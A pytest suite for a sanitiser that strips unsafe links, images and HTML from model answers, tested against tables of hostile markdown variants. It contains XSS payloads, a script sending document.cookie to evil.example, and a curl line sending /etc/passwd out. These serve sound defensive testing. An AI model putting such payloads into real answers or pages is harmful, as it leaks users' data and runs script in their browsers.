"""Links and images in model answers: the sanitiser and its check, over hostile variants.

Each class of attack is a table of variants. Every result is rendered independently of
the module (markdown-it with its own defaults and with every scheme let through, raw HTML
on, linkify on; the HTML read back with ``html.parser``; each href and src parsed with
ada as a browser would) and read the way Slack would read it, so the tests hold the
behaviour, not one spelling of it.
"""

# ruff: noqa: RUF001 - full-width and Cyrillic look-alike letters are what these tables test

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import ada_url
import pytest
from linkify_it.tlds import TLDS
from markdown_it import MarkdownIt

from runbook_rag import links
from runbook_rag.links import IMAGE_REMOVED, LINK_REMOVED, UnsafeMarkdown, safe_markdown, unsafe_links

HOSTS = frozenset({"grafana.example.com", "Status.Example.NET"})
SOURCE = "https://wiki.example.com/pages/Failover+(payments-db)?v=2"
SOURCE_HREF = "https://wiki.example.com/pages/Failover+%28payments-db%29?v=2"


def clean(text: str) -> str:
    return safe_markdown(text, link_hosts=HOSTS, source_urls=[SOURCE])


# -- an oracle that shares nothing with the module ------------------------------------

_ALLOWED_HOSTS = {"grafana.example.com", "status.example.net"}
_MARKDOWN_TAGS = {
    "p", "a", "img", "code", "pre", "em", "strong", "s", "del", "h1", "h2", "h3", "h4", "h5", "h6",
    "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
_ATTRIBUTES = {"href", "src", "alt", "title", "class", "style", "start"}


def _renderers() -> list[MarkdownIt]:
    github = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])
    permissive = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])
    permissive.validateLink = lambda url: True  # type: ignore[method-assign]
    permissive.normalizeLink = lambda url: url  # type: ignore[method-assign]
    return [github, permissive]


RENDERERS = _renderers()


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_comment(self, data: str) -> None:
        self.tags.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("!decl", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("?pi", {}))


def _browser(url: str) -> ada_url.URL | None:
    try:
        return ada_url.URL(url)
    except ValueError:
        return None


def link_ok(url: str) -> bool:
    parsed = _browser(url)
    if parsed is None or parsed.protocol not in ("http:", "https:") or parsed.username or parsed.password:
        return False
    return parsed.host in _ALLOWED_HOSTS or parsed.href.replace("(", "%28").replace(")", "%29") == SOURCE_HREF


def image_ok(url: str) -> bool:
    parsed = _browser(url)
    return (
        parsed is not None
        and parsed.protocol in ("http:", "https:")
        and not (parsed.username or parsed.password)
        and parsed.host in _ALLOWED_HOSTS
    )


def rendered_problems(markdown: str) -> list[str]:
    """What a renderer would show that the rule does not allow."""
    found = []
    for md in RENDERERS:
        parser = _Tags()
        parser.feed(md.render(markdown))
        for tag, attrs in parser.tags:
            if tag not in _MARKDOWN_TAGS:
                found.append(f"HTML <{tag}>")
            found += [f"attribute {name}" for name in attrs if name not in _ATTRIBUTES]
            if tag == "a" and not link_ok(attrs.get("href", "")):
                found.append(f"href {attrs.get('href')!r}")
            if tag == "img" and not image_ok(attrs.get("src", "")):
                found.append(f"src {attrs.get('src')!r}")
    return found + slack_problems(markdown)


_CUT = r"[^\s<>\"'`|\[\]]"
_URLISH = re.compile(rf"(?i)(?:[a-z][\w+.-]*:)?//{_CUT}+|(?<![\w.@/-])www\.{_CUT}+")
_HOSTNAME = re.compile(rf"(?<![\w.@/\\-])[\w-]+(?:\.[\w-]+)+(?:[:/?#]{_CUT}*)?")
_EMAILISH = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_TLDS = {tld.lower() for tld in TLDS}


def _trimmed(word: str) -> str:
    while word and (word[-1] in ".,;:!?*_~" or (word[-1] == ")" and word.count("(") < word.count(")"))):
        word = word[:-1]
    return word


def slack_problems(markdown: str) -> list[str]:
    """Slack's reading, made stricter: outside code, any ``<...>`` mention or link not
    allowed, any e-mail address, and anything that looks like a URL or a host name (with a
    known top-level domain) not allowed."""
    lines = markdown.split("\n")
    for token in RENDERERS[0].parse(markdown):
        if token.type in ("fence", "code_block") and token.map:
            for n in range(*token.map):
                lines[n] = ""
    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", " ", "\n".join(lines), flags=re.S)
    prose = prose.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    found = []
    for body in re.findall(r"<([^<>\s][^<>]*)>", prose):
        target = body.split("|")[0]
        if target[0] in "@#!":
            found.append(f"Slack mention <{body}>")
        elif re.match(r"(?i)[a-z][\w+.-]*:", target) and not link_ok(target):
            found.append(f"Slack link <{body}>")
    found += [f"Slack e-mail {m!r}" for m in _EMAILISH.findall(prose)]
    for m in _URLISH.finditer(prose):
        url = _trimmed(m.group())
        if not link_ok(url if "//" in url[:1] or ":" in url.split("//")[0] else "http://" + url):
            found.append(f"Slack link {url!r}")
    for m in _HOSTNAME.finditer(_URLISH.sub(" ", prose)):
        word = _trimmed(m.group())
        if re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}/\d{1,2}", word):
            continue  # a CIDR range, not a link
        has_path = re.search(r"[:/?#]", word)
        if (has_path or word.rsplit(".", 1)[-1].lower() in _TLDS) and not link_ok("http://" + word):
            found.append(f"Slack host {word!r}")
    return found


def assert_safe(original: str, out: str) -> None:
    assert rendered_problems(out) == [], (original, out)
    assert unsafe_links(out, link_hosts=HOSTS, source_urls=[SOURCE]) == [], (original, out)


# -- attack classes: every variant comes out safe -------------------------------------

HOST_CONFUSION = [
    "[dash](https://evil.example\\@grafana.example.com/d)",
    "[dash](https://evil.example\\\\@grafana.example.com/d)",
    "[dash](https://grafana.example.com\\@evil.example/d)",
    "[dash](https://grafana.example.com\\\\@evil.example/d)",
    "[dash](https://grafana.example.com%5C@evil.example/d)",
    "[dash](https://grafana.example.com&#64;evil.example/d)",
    "[dash](https://grafana.example.com:443@evil.example/)",
    "[dash](https://grafana.example.com%2F@evil.example/)",
    "[dash](https:\\\\evil.example/x)",
    "[dash](https:/\\evil.example/x)",
    "[dash](https://user@grafana.example.com/d)",
    "[dash](https://user:pass@grafana.example.com/d)",
    "https://evil.example\\@grafana.example.com/d",
    "https://grafana.example.com\\@evil.example/",
    "https://grafana.example.com\\\\@evil.example/",
    "https://grafana.example.com@evil.example/x",
    "https://user:pass@grafana.example.com/x",
    "https://grafana.example.com&#47;@evil.example/",
    "<https://evil.example\\@grafana.example.com/>",
    "<https://grafana.example.com\\@evil.example/>",
    "<https://grafana.example.com@evil.example/>",
    "![p](https://grafana.example.com\\@evil.example/p.png)",
    "![p](https://evil.example\\@grafana.example.com/p.png)",
]

WHITESPACE_IN_URLS = [
    "[x](<https://evil.\texample/a>)",
    "[x](<https://grafana.example.com\t.evil.example/a>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](https://grafana.example.com/a\n.evil.example)",
    "[x](<https://evil.example/\nx>)",
    "![x](<https://evil.\nexample/p.png>)",
    "https://evil.exa\tmple/x and https://evil.example\n/x",
    "[x](\thttps://evil.example\t)",
    "[x](<https://evil.example/a b>)",
]

HOST_SPELLINGS = [
    "[x](HTTPS://EVIL.EXAMPLE/)",
    "[x](https://ＥＶＩＬ.example/)",
    "[x](https://evil．example/)",
    "[x](https://grafana.example.com./d)",
    "[x](https://grafana.example.com../d)",
    "[x](https://grаfana.example.com/)",  # Cyrillic a
    "[x](https://xn--grfana-7ua.example.com/)",
    "[x](https://grafana.example.com%2eevil.example/)",
    "[x](https://grafana.example.com:8443/d)",
    "[x](ws://grafana.example.com/)",
    "HTTPS://EVIL.EXAMPLE/x",
    "https://ＥＶＩＬ.com/x",
    "ｅｖｉｌ．ｃｏｍ/collect?d=1",
    "https://grafana.example.com./d",
    "![p](https://GRAFANA.EXAMPLE.COM./p.png)",
]

LOOK_ALIKES = [
    "[x](https://grafana.example.com.evil.example/)",
    "[x](https://evil-grafana.example.com/)",
    "[x](https://sub.grafana.example.com/)",
    "[x](https://grafana.example.co/)",
    "[x](https://grafana-example.com/)",
    "[x](https://grafana.example.com-evil.example/)",
    "[x](https://evil.example/grafana.example.com/)",
    "[x](https://evil.example/?u=https://grafana.example.com)",
    "[x](https://evil.example#grafana.example.com)",
    "https://grafana.example.com.evil.example/x",
    "grafana.example.com.evil.example/x",
    "sub.grafana.example.com/x",
    "evilgrafana.example.com/d",
    "![p](https://cdn.grafana.example.com/p.png)",
    "![p](https://status.example.net.evil.example/p.png)",
    "[x](https://wiki.example.com/pages/Other)",
    "[x](https://wiki.example.com/pages/Failover+(payments-db)?v=3)",
    "![p](https://wiki.example.com/pages/Failover+(payments-db)?v=2)",
]

PROTOCOL_RELATIVE = [
    "[x](//evil.example/x)",
    "![x](//evil.example/p.png)",
    "[x](//grafana.example.com/d)",
    "![x](//grafana.example.com/p.png)",
    "[x](///evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example/x)",
    "[x][r]\n\n[r]: //evil.example/x",
    "![x][r]\n\n[r]: //evil.example/p.png",
    "![x][]\n\n[x]: <//evil.example/p.png> 'title'",
    "<//evil.example/x>",
    "see //evil.example/x",
    "src=//evil.example/p.png",
    "<//evil.example/x|click>",
    "[x](//evil.example\\@grafana.example.com)",
]

REFERENCES = [
    '[docs][r]\n\n[r]: https://evil.example/x "Title"',
    "[docs][]\n\n[docs]: https://evil.example/x 'T'",
    "[docs]\n\n[docs]: <https://evil.example/x> (T)",
    "[Docs]\n\n[DOCS]: https://evil.example/x",
    '[docs]\n\n[docs]:\n  https://evil.example/x\n  "a title\n  on two lines"',
    '![p][img]\n\n[img]: https://evil.example/p.png "t"',
    "![p][]\n\n[p]: https://evil.example/p.png",
    "![p]\n\n[p]: https://evil.example/p.png",
    "> [docs]\n>\n> [docs]: https://evil.example/x",
    "- [docs]\n\n  [docs]: https://evil.example/x",
    "[docs]\n\n[docs]: https://evil.example/x\n[docs]: https://grafana.example.com/d",
    "[ docs  here ][]\n\n[Docs Here]: https://evil.example",
    "[r]\n\n[r]: https&#58;//evil.example",
    "[r]\n\n[r]: https://grafana.example.com\\@evil.example/",
    "[1]\n\n[1]: https://evil.example/x",
    "[x][ref] and [ref]: https://evil.example/x inline",
    "[x]\n[x]: https://evil.example/not-a-definition-here",
]

NESTED = [
    "[![status](https://evil.example/p.png)](https://grafana.example.com/d)",
    "[![status](https://grafana.example.com/p.png)](https://evil.example/d)",
    "[a [b](https://evil.example) c](https://grafana.example.com/d)",
    "[a [b](https://grafana.example.com/x) c](https://evil.example)",
    "![a [b](https://evil.example) c](https://grafana.example.com/p.png)",
    "[![x][img]][link]\n\n[img]: https://evil.example/p.png\n[link]: https://grafana.example.com/d",
    "[see https://evil.example/x and www.evil.com](https://grafana.example.com/d)",
    "[<https://evil.example>](https://grafana.example.com/d)",
    "[<img src=//evil.example/p.png>](https://grafana.example.com/d)",
    "[x](https://grafana.example.com/d)(https://evil.example)",
    "[[x](https://evil.example)](https://evil.example)",
    "[" * 40 + "x](https://evil.example)" + "]" * 40,
    "![" * 20 + "x](https://evil.example/p.png)" + ")" * 20,
]

RAW_HTML = [
    '<img src="https://evil.example/p.png">',
    "<IMG SRC=//evil.example/p.png>",
    '<img\nsrc="//evil.example/p.png"\n>',
    '<a href="https://evil.example">click</a>',
    "<a href='javascript:alert(1)'>x</a>",
    '<iframe src="https://evil.example"></iframe>',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    "<svg onload=\"fetch('//evil.example')\">",
    "<svg/onload=alert(1)>",
    "<!-- <img src=//evil.example/p.png> -->",
    "<!---->hidden<!-- [x](https://evil.example) -->",
    "<![CDATA[<img src=//evil.example/p.png>]]>",
    '<?xml-stylesheet href="https://evil.example/s.xsl"?>',
    "<!DOCTYPE html>",
    "<<img src=//evil.example/p.png>img src=//evil.example/q.png>",
    "<scr<script>ipt>alert(1)</script>",
    "<div>\n<img src=//evil.example/p.png>\n</div>",
    "<details><summary>x</summary>\n\n![p](https://evil.example/p.png)\n\n</details>",
    "<style>body{background:url(//evil.example/p.png)}</style>",
    '<script>\nfetch("https://evil.example/?d="+document.cookie)\n</script>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<object data="https://evil.example/x.swf"></object>',
    "<video poster=//evil.example/p.png>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<form action=https://evil.example><input type=submit></form>",
    "a <b>bold</b> word",
    "<img src=//evil.example/p.png",
    '<a href="https://evil.example',
    "<div\n<img src=//evil.example/y>",
    "text\n<!--\n\n[x](https://evil.example)\n\n-->",
    "<textarea>\n\n<img src=//evil.example/p.png>\n\n</textarea>",
]

ENTITIES = [
    "&#104;ttps://evil.example/x",
    "&#x68;ttps://evil.com/x",
    "https&#58;//evil.com/x",
    "https&colon;//evil.com/x",
    "&#x2F;&#x2F;evil.com/x",
    "&#119;ww.evil.com",
    "evil&#46;com/x",
    "evil&period;com/collect?d=1",
    "&amp;#104;ttps://evil.com/x",
    "&lt;img src=//evil.example/p.png&gt;",
    "&lt;https://evil.com&gt;",
    "[x](&#104;ttps://evil.example)",
    "[x](https&#58;//evil.example)",
    "&#91;x&#93;&#40;https://evil.com&#41;",
    "ops&#64;evil.com",
    "\\[x\\](https://evil.com)",
    "https:\\/\\/evil.com/x",
    "https://evil\\.com/x",
    "h\\ttps://evil.com/x",
]

SCHEMES = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,hi>",
    "<file:///etc/passwd>",
    "[x](ftp://evil.example/x)",
    "ftp://evil.example/x",
    "[x](mailto:ops@evil.example)",
    "mailto:ops@evil.example",
    "<mailto:ops@evil.example>",
    "[x](tel:+15550100)",
    "[x](ssh://evil.example)",
    "![x](javascript:alert(1))",
]

BARE = [
    "evil.example/collect?d=secret",
    "evil.test/x",
    "attacker.internal/exfil?q=1",
    "evil.example:8080/x",
    "evil.example?d=1",
    "evil.example#frag",
    "www.evil.example",
    "www.evil.example/x",
    "Visit evil.com.",
    "(evil.com/x)",
    "evil.com/x?d=1&e=2",
    "foo.evil.co.uk/path",
    "evil.com/grafana.example.com",
    "https://evil.com",
    "http://127.0.0.1:8080/x",
    "http://[::1]/x",
    "http://0x7f000001/",
    "**https://evil.example/x**",
    "_evil.com/x_",
    "https://grafana.example.com/*x*@evil.com/",
    "https://grafana.example.com/_a@evil.com_",
    "xhttps://evil.com/x",
    "README.md, app.py and docker.io",
    "grafana.example.com.evil.example",
    "payments.app and ledger.dev",
    "10.0.0.1/admin and 192.168.0.1:8080/x",
    "http:/evil.com/x and https:evil.com/x and http:\\\\evil.com/x",
    "evil.xn--p1ai/x and evil.рф/x and evil.com./x and evil_host.example.com/x",
    "(www.evil.example) WWW.EVIL.EXAMPLE",
]

EMAILS = [
    "ops@evil.example",
    "ops@evil.com",
    "ops.team+sre@evil.co.uk",
    "<ops@evil.com>",
    "ops@grafana.example.com",
    "OPS@EVIL.COM",
    "ops@ｅｖｉｌ．ｃｏｍ",
    "mail ops@evil.com.",
]

SLACK = [
    "<https://evil.example|dashboard>",
    "<https://evil.example>",
    "<http://evil.com|http://grafana.example.com/d/1>",
    "<https://grafana.example.com@evil.example|x>",
    "<https://grafana.example.com\\@evil.example|x>",
    "<evil.example/x|click>",
    "<mailto:ops@evil.com|mail me>",
    "<@U123ABC>",
    "<@U123|alice>",
    "<!here>",
    "<!channel> <!everyone>",
    "<!subteam^S123|@sre>",
    "<#C123|general>",
    "<!date^1392734382^{date}|Feb 18>",
    "<tel:+15550100|call>",
    "<https://evil.example|<https://evil.example>>",
]

INLINE_FORMS = [
    '[x](https://evil.example "title")',
    "[x](https://evil.example 'T')",
    "[x](https://evil.example (T))",
    "[x](https://evil.example/a(b)c)",
    "[x]\n(https://evil.example)",
    "**[x](https://evil.example)**",
    "| a | [x](https://evil.example) |\n|---|---|\n| b | https://evil.example/y |",
    "# [x](https://evil.example)",
    "> [x](https://evil.example)",
    "- [x](https://evil.example)\n- https://evil.example/y",
    "~~[x](https://evil.example)~~",
    "[x](https://evil.example)[y](https://evil.example)",
    "\\[x](https://evil.example)",
    "[x\\](https://evil.example)",
    "[x](https://evil.example)(x)",
    "[1](https://evil.example)(x)",
    "https://evil.example: [x](https://grafana.example.com/d)",
    "[x](https://evil.example\n'title')",
    "Title\n=====\n[x](https://evil.example)",
]

CLASSES = {
    "host-confusion": HOST_CONFUSION,
    "whitespace": WHITESPACE_IN_URLS,
    "host-spelling": HOST_SPELLINGS,
    "look-alike": LOOK_ALIKES,
    "protocol-relative": PROTOCOL_RELATIVE,
    "reference": REFERENCES,
    "nested": NESTED,
    "raw-html": RAW_HTML,
    "entities": ENTITIES,
    "schemes": SCHEMES,
    "bare": BARE,
    "emails": EMAILS,
    "slack": SLACK,
    "inline-forms": INLINE_FORMS,
}
VARIANTS = [
    pytest.param(text, id=f"{name}-{i}") for name, texts in CLASSES.items() for i, text in enumerate(texts)
]


@pytest.mark.parametrize("text", VARIANTS)
def test_hostile_variants_come_out_safe(text: str) -> None:
    out = clean(text)
    assert_safe(text, out)
    assert clean(out) == out  # nothing left to take out


@pytest.mark.parametrize("text", [v for v in VARIANTS if rendered_problems(v.values[0])])
def test_the_check_finds_what_each_variant_would_render(text: str) -> None:
    assert unsafe_links(text, link_hosts=HOSTS, source_urls=[SOURCE])


def test_every_variant_at_once_in_one_answer() -> None:
    text = "\n\n".join(t for texts in CLASSES.values() for t in texts)
    assert_safe(text, clean(text))


# -- what is kept, and how it is written ----------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See [the dashboard](https://grafana.example.com/d/1) [1].", None),
        ("[x](https://GRAFANA.example.com/d/1)", "[x](https://grafana.example.com/d/1)"),
        ("[x](https://ｇｒａｆａｎａ.example.com/d/1)", "[x](https://grafana.example.com/d/1)"),
        ("[x](https://grafana.example.com:443/d/1)", "[x](https://grafana.example.com/d/1)"),
        ("[x](<https://gra\tfana.example.com/a>)", "[x](https://grafana.example.com/a)"),
        ("[x](http://grafana.example.com/d/1)", None),
        ("[x](https://status.example.net/)", None),
        ("[x](<https://grafana.example.com/a b(c)>)", "[x](https://grafana.example.com/a%20b%28c%29)"),
        ('[x](https://grafana.example.com/d/1 "Title")', "[x](https://grafana.example.com/d/1)"),
        ("[x](https://grafana.example.com/d?a=1&amp;b=2)", "[x](https://grafana.example.com/d?a=1&b=2)"),
        ("[x](https://grafana.example.com/d?a=&amp;lt;)", "[x](https://grafana.example.com/d?a=\\&lt;)"),
        ("[x][d]\n\n[d]: https://grafana.example.com/d/1", "[x](https://grafana.example.com/d/1)\n"),
        (
            "[](https://grafana.example.com/d/1)",
            "[https://grafana.example.com/d/1](https://grafana.example.com/d/1)",
        ),
        ("![panel](https://grafana.example.com/render/p.png)", None),
        ("![panel](https://status.example.net/badge.svg)", None),
        ("![**p**](https://grafana.example.com/p.png)", None),
        ("https://grafana.example.com/d/1", None),
        ("grafana.example.com/d/1 and grafana.example.com", None),
        ("<https://grafana.example.com/d/1>", None),
        ("<https://grafana.example.com/d/1|dashboard>", "[dashboard](https://grafana.example.com/d/1)"),
        (f"[runbook]({SOURCE})", f"[runbook]({SOURCE_HREF})"),
        (SOURCE, None),
        ("Fail over [1] then check lag [2].", None),
        ("Fail over [1][2].", None),
        ("a < b and c > d, x <= y", None),
        ("allow 10.0.0.0/16 and 10.1.0.0/8, then ../platform/deploy-rollback.md", None),
        ("**bold** _em_ ~~gone~~ `code` \\*not em\\*", None),
    ],
)
def test_allowed_links_are_kept_exactly(text: str, expected: str | None) -> None:
    out = clean(text)
    assert out == (text if expected is None else expected)
    assert_safe(text, out)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[x](https://evil.example)", "x"),
        ("![x](https://evil.example/p.png)", IMAGE_REMOVED),
        ("https://evil.example/x.", f"{LINK_REMOVED}."),
        ("(see https://evil.example/x)", f"(see {LINK_REMOVED})"),
        ("evil.example/collect?d=1", LINK_REMOVED),
        ("ping evil.com", "ping evil[.]com"),
        ("ops@evil.example", "ops@evil[.]example"),
        ("mail ops@evil.com.", "mail ops@evil[.]com."),
        ("www.evil.example", "www[.]evil[.]example"),
        ("README.md", "README[.]md"),
        ("<https://evil.example|click>", "click"),
        ("<https://evil.example>", LINK_REMOVED),
        ("<@U123|alice> <#C1|ops> <!here>", "@alice #ops "),
        ("<b>bold</b> <!-- c -->x", "bold x"),
        ("x<y and a <b", "x&lt;y and a &lt;b"),
        ("[1]: https://evil.example\n\nFail over [1].", "\nFail over [1]."),
        ("[1](https://evil.example) says", "[1] says"),
        ("[1](https://evil.example)(x)", "[1\\](x)"),
        ("[docs]\n\n[docs]: https://evil.example", "[docs]\n"),
        ("[x](https://evil.example)[y](https://grafana.example.com/)", "x[y](https://grafana.example.com/)"),
        ("![x](https://wiki.example.com/p.png) [y](https://wiki.example.com/other)", f"{IMAGE_REMOVED} y"),
    ],
)
def test_what_is_not_allowed_becomes_plain_text(text: str, expected: str) -> None:
    assert clean(text) == expected


def test_link_text_is_sanitised_and_code_in_it_parses() -> None:
    out = clean("[run `kubectl get <pod> -o yaml` at https://evil.example/x](https://grafana.example.com/d)")
    assert out == f"[run `kubectl get <pod> -o yaml` at {LINK_REMOVED}](https://grafana.example.com/d)"
    out = clean("[![img](https://grafana.example.com/p.png) and more](https://grafana.example.com/d)")
    assert out == "[img and more](https://grafana.example.com/d)"


def test_hosts_are_compared_exactly_after_folding() -> None:
    def kept(url: str, hosts: set[str]) -> bool:
        return safe_markdown(f"[x]({url})", link_hosts=hosts) != "x"

    assert kept("https://GRAFANA.example.com/", {"grafana.example.com"})
    assert kept("https://grafana.example.com/", {"GRAFANA.Example.COM"})
    assert kept("https://xn--strae-oqa.example/", {"straße.example"})
    assert kept("https://straße.example/", {"xn--strae-oqa.example"})
    assert kept("https://grafana.example.com:3000/", {"grafana.example.com:3000"})
    assert not kept("https://grafana.example.com/", {"grafana.example.com:3000"})
    assert not kept("https://sub.grafana.example.com/", {"grafana.example.com"})
    assert not kept("https://example.com/", {"grafana.example.com"})
    assert not kept("https://grafana.example.com/", {"https://grafana.example.com/d", "*.example.com", ""})


# -- code is left alone -----------------------------------------------------------------


FENCE = "```bash\ncurl -H 'Host: evil' https://evil.example/<b>\n<img src=//evil.example/p.png>\n```"
SPANS = "`<https://evil.example>` and `<@U123>` and `[r]: https://evil.example`"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (
            "run `curl https://evil.example/x?d=$(cat /etc/passwd)` now",
            "`curl https://evil.example/x?d=$(cat ",
        ),
        (FENCE, FENCE),
        ("~~~\n[x](https://evil.example) &#104;ttps://evil.com\n~~~\n", None),
        ("text\n\n    wget http://evil.example/y\n    <!-- keep -->\n", None),
        ("``code with ` and https://evil.example``", None),
        ("- item\n\n  ```\n  curl https://evil.example\n  ```", None),
        ("> ```\n> curl https://evil.example <@U1>\n> ```", None),
        ("[`https://evil.example`](https://evil.example)", "`https://evil.example`"),
        (SPANS, SPANS),
        ("```\nunclosed fence https://evil.example", None),
        ("a `\ue000x\ue001` b", "`\ue000x\ue001`"),
        ("crlf\r\n```\r\ncurl https://evil.example\r\n```\r\n", "```\ncurl https://evil.example\n```\n"),
        ("```sh\nPGPASSWORD=x psql 'postgres://u@db.internal/p' -c 'select 1'\n```", None),
    ],
)
def test_code_is_kept_byte_for_byte(text: str, code: str | None) -> None:
    out = clean(text)
    assert (code or text) in out
    assert rendered_problems(out) == []


# -- the check, and failing closed ------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[x](https://evil.example)",
        "![x](https://grafana.example.com.evil.example/p.png)",
        "![p](https://wiki.example.com/p.png)",
        "[![p](https://grafana.example.com/p.png)](https://grafana.example.com/d)",
        "<img src=x>",
        "<!-- c -->",
        "https://evil.example/x",
        "evil.com/x",
        "ops@evil.com",
        "www.evil.example",
        "<https://evil.example|x>",
        "<@U123>",
        "[x][r]\n\n[r]: //evil.example",
        "[x](javascript:alert(1))",
        "&#104;ttps://evil.com/x",
        "[x](https://grafana.example.com\\@evil.example/)",
    ],
)
def test_the_check_flags_what_renders(text: str) -> None:
    assert unsafe_links(text, link_hosts=HOSTS, source_urls=[SOURCE])
    assert unsafe_links(clean(text), link_hosts=HOSTS, source_urls=[SOURCE]) == []


def test_a_sanitiser_gap_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(links._Sanitiser, "run", lambda self, text: text)
    with pytest.raises(UnsafeMarkdown) as caught:
        clean("![s](https://evil.example/p.png?d=4111) and <img src=x>")
    assert "evil" not in str(caught.value) and "4111" not in str(caught.value)
    assert {p.split(":")[0] for p in caught.value.problems} >= {"image not allowed", "raw HTML"}
    assert clean("plain text [1]") == "plain text [1]"


@pytest.mark.slow
def test_parsers_are_built_once_and_only_when_needed() -> None:
    clean("x")
    assert links._tools() is links._tools()
    code = (
        "import sys, runbook_rag.links as m; print(m._tools.cache_info().currsize, 'ada_url' in sys.modules)"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.split() == ["0", "False"]


def test_long_runs_of_markup_are_handled() -> None:
    text = ("[" * 300 + "<" * 300 + "![" * 300 + "`" * 50 + "&#104;" * 300 + "evil.com/x " * 200) * 2
    assert_safe("long", clean(text))
